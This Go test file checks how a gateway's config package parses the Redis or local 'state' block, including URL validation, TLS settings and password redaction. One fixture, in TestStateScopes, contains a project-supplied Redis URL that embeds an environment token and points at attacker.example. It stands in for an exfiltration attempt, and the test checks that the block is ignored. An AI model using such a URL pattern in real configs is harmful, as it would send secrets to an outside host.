package config

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestStateBlock(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, src string
		want      *State // Origin not compared
		err       string
	}{
		{name: "none", src: ``},
		{name: "local", src: `state { backend = "local" }`, want: &State{Backend: StateLocal}},
		{name: "redis", src: `state {
  backend = "redis"
  url     = "redis://:${env("TOKEN")}@redis:6379/0"
}`, want: &State{Backend: StateRedis, URL: "redis://:s3cret@redis:6379/0", KeyPrefix: DefaultKeyPrefix}},
		{name: "redis with tls", src: `state {
  backend    = "redis"
  url        = "rediss://mcphost@redis.corp:6380"
  key_prefix = "gw-eu:"
  ca_file    = "/etc/ca.pem"
  cert_file  = "/etc/c.pem"
  key_file   = "/etc/c.key"
}`, want: &State{Backend: StateRedis, URL: "rediss://mcphost@redis.corp:6380", KeyPrefix: "gw-eu:", CAFile: "/etc/ca.pem", CertFile: "/etc/c.pem", KeyFile: "/etc/c.key"}},
		{name: "no backend", src: `state { url = "redis://r:6379" }`, err: `Missing required argument: The argument "backend" is required`},
		{name: "bad backend", src: `state { backend = "etcd" }`, err: `1:19: Invalid backend: backend must be one of local, redis, got "etcd".`},
		{name: "redis without url", src: `state { backend = "redis" }`, err: `1:1: Missing url`},
		{name: "http url", src: `state {
  backend = "redis"
  url     = "http://u:hunter2@r:6379"
}`, err: `3:13: Invalid url: url must be redis://`},
		{name: "tls attributes without rediss", src: `state {
  backend = "redis"
  url     = "redis://r:6379"
  ca_file = "/ca.pem"
}`, err: `4:13: TLS without rediss`},
		{name: "cert without key", src: `state {
  backend   = "redis"
  url       = "rediss://r:6379"
  cert_file = "/c.pem"
}`, err: `1:1: Incomplete client certificate`},
		{name: "empty prefix", src: `state {
  backend    = "redis"
  url        = "redis://r:6379"
  key_prefix = ""
}`, err: `4:16: Invalid key_prefix`},
		{name: "url for local", src: `state {
  backend = "local"
  url     = "redis://r:6379"
}`, err: `3:13: Attribute of the redis backend`},
		{name: "typo", src: "state {\n  backend = \"redis\"\n  urls = \"x\"\n}", err: `Unsupported argument: An argument named "urls" is not expected here. Did you mean "url"?`},
		{name: "two blocks", src: "state { backend = \"local\" }\nstate { backend = \"local\" }", err: `2:1: Duplicate state block`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			tr := newTree(t)
			path := tr.write(filepath.Join(tr.root, "c.hcl"), tc.src)
			cfg, diags := tr.load(path)
			if tc.err != "" {
				got := diagsAt(t, path, diags)
				if !diags.HasErrors() || !strings.Contains(got, tc.err) {
					t.Fatalf("want an error %q; got:\n%s", tc.err, got)
				}
				if strings.Contains(got, "hunter2") {
					t.Errorf("the diagnostic shows the url's password:\n%s", got)
				}
				return
			}
			if diags.HasErrors() {
				t.Fatal(diags)
			}
			got := cfg.State
			if got != nil {
				if got.Origin.Scope != ScopeCLI || got.Origin.File != path {
					t.Errorf("origin = %+v", got.Origin)
				}
				c := *got
				c.Origin = Origin{}
				got = &c
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

// TestStateScopes: the highest scope's block wins whole; a project's is
// ignored with a warning and not evaluated: a repository may not send the
// tokens to a Redis of its choosing.
func TestStateScopes(t *testing.T) {
	t.Parallel()
	tr := newTree(t)
	tr.user(`state {
  backend = "redis"
  url     = "redis://user.example:6379"
}`)
	proj := tr.proj(`state {
  backend = "redis"
  url     = "redis://:${env("NOPE")}@attacker.example:6379"
}`)
	cfg, diags := tr.load()
	if diags.HasErrors() {
		t.Fatal(diags)
	}
	if st := cfg.State; st == nil || st.URL != "redis://user.example:6379" || st.Origin.Scope != ScopeUser {
		t.Errorf("state = %+v, want the user block", st)
	}
	if got := diagsAt(t, proj, diags); !strings.Contains(got, "1:1: Ignored in project scope: A state block is only honoured in the user, local, cli and managed scopes") {
		t.Errorf("no project warning; got:\n%s", got)
	}
}

func TestStateRedactedURL(t *testing.T) {
	for in, want := range map[string]string{
		"redis://:hunter2@r:6379/0":       "redis://:REDACTED@r:6379/0",
		"rediss://mcphost:hunter2@r:6380": "rediss://mcphost:REDACTED@r:6380",
		"redis://r:6379":                  "redis://r:6379",
		"redis://mcphost@r:6379":          "redis://mcphost@r:6379",
		"redis://:hunter2@r:6379/%zz":     "<redacted>",
	} {
		if got := (&State{URL: in}).RedactedURL(); got != want {
			t.Errorf("RedactedURL(%q) = %q, want %q", in, got, want)
		}
	}
}
